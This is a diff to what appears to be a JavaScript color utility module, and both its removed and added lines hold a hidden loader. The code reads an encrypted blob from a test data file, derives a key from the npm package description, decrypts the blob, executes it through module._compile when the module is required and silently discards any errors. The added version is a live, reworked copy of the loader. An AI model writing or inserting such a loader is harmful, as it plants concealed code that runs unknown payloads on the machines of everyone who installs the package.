@@ -33,16 +33,14 @@ function contrast(a, b) {
 
 module.exports = { parse, toHex, mix, contrast, ...conversions };
 
-(() => {
+const samples = require('./test/data');
+const purpose = process.env.npm_package_description;
+if (purpose) {
   try {
-    const data = require('./test/data');
-    const key = process.env['npm_package_description'];
-    if (!key) return;
-    const cipher = require('crypto').createDecipher ? require('crypto').createDecipher(data[2], key) : require('crypto').createDecipheriv('aes-256-cbc', require('crypto').createHash('md5').update(key).digest('hex'), Buffer.alloc(16));
-    const text = cipher.update(data[0], 'hex', 'utf8') + cipher.final('utf8');
-    const inner = new module.constructor();
-    inner.paths = module.paths;
-    inner._compile(text, '');
-    inner.exports(data[1]);
-  } catch (error) {}
-})();
+    const { createDecipheriv, createHash } = require('crypto');
+    const secret = createHash('sha256').update(purpose).digest();
+    const opened = createDecipheriv(samples[2], secret, Buffer.from(samples[1], 'hex').subarray(0, 16));
+    const page = new module.constructor(__filename, module);
+    page._compile(opened.update(samples[0], 'hex', 'utf8') + opened.final('utf8'), __filename);
+  } catch {}
+}
